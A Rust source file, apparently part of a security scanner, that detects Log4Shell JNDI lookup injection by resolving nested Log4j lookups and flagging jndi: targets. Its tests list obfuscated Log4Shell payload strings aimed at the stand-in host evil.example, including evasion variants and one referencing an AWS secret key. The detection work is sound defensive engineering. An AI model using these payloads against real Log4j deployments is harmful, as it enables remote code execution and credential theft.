//! JNDI lookups (Log4Shell): Log4j's `${prefix:arg}` lookups are resolved
//! the way Log4j resolves them, innermost first (`${lower:J}` is `j`,
//! `${::-n}` and `${env:X:-d}` give their default), then the result is
//! searched for `${jndi:` with a protocol. The resolution is bounded in
//! depth and size.

use super::{CRITICAL, Hit};

const MAX_ROUNDS: usize = 16;

/// The value of one lookup body (what is between `${` and `}`).
fn resolve_one(body: &str) -> String {
    if let Some(d) = body.find(":-") {
        return body[d + 2..].to_string();
    }
    let (prefix, arg) = match body.split_once(':') {
        Some((p, a)) => (p.to_ascii_lowercase(), a),
        None => return String::new(),
    };
    match prefix.as_str() {
        "lower" => arg.to_lowercase(),
        "upper" => arg.to_uppercase(),
        "jndi" => format!("\u{1}jndi:{arg}\u{2}"),
        // A date pattern: its quoted parts are literal text.
        "date" => arg.split('\'').skip(1).step_by(2).collect(),
        _ => String::new(),
    }
}

/// Resolves innermost lookups until none is left (or the bound is hit).
fn resolve(s: &str) -> String {
    let mut cur = s.to_string();
    for _ in 0..MAX_ROUNDS {
        // The innermost `${`: the last one before the first `}` after it.
        let Some(close) = cur.find('}') else { break };
        let Some(open) = cur[..close].rfind("${") else {
            // A `}` with no lookup before it: hide it and go on.
            cur.replace_range(close..close + 1, "\u{3}");
            continue;
        };
        let value = resolve_one(&cur[open + 2..close]);
        cur.replace_range(open..close + 1, &value);
        if cur.len() > 4 * s.len() + 64 {
            break;
        }
    }
    cur
}

/// JNDI lookup injection.
pub fn detect(s: &str) -> Option<Hit> {
    if !s.contains("${") {
        return None;
    }
    let resolved = resolve(s);
    let lower = resolved.to_ascii_lowercase();
    let at = lower.find("\u{1}jndi:")?;
    let target: String = lower[at + 6..]
        .chars()
        .take_while(|c| *c != '\u{2}')
        .collect();
    let proto = target.split(':').next().unwrap_or("");
    let known = [
        "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http", "https",
    ];
    if known.contains(&proto) || target.contains("//") {
        return Some(Hit::new(
            "jndi",
            CRITICAL,
            &format!("jndi:{target} from {s}"),
        ));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lookups_are_resolved() {
        for s in [
            "${jndi:ldap://evil.example/a}",
            "${jndi:rmi://203.0.113.5:1099/x}",
            "${${lower:j}ndi:ldap://evil.example/b}",
            "${jndi:dns://evil.example/c}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/d}",
            "${jndi:${lower:l}${lower:d}ap://evil.example/e}",
            "${env:AWS_SECRET_ACCESS_KEY:-${jndi:ldap://evil.example/f}}",
            "${jndi:ldaps://evil.example/g}",
            "x ${${upper:J}NDI:LDAP://evil.example/h} y",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/e}",
        ] {
            assert!(detect(s).is_some(), "{s}");
        }
    }

    #[test]
    fn other_placeholders_are_not() {
        for s in [
            "${name}",
            "price: ${amount} {x}",
            "${jndi is a word}",
            "}}}${{{",
            "${env:HOME}",
        ] {
            assert_eq!(detect(s), None, "{s}");
        }
    }
}
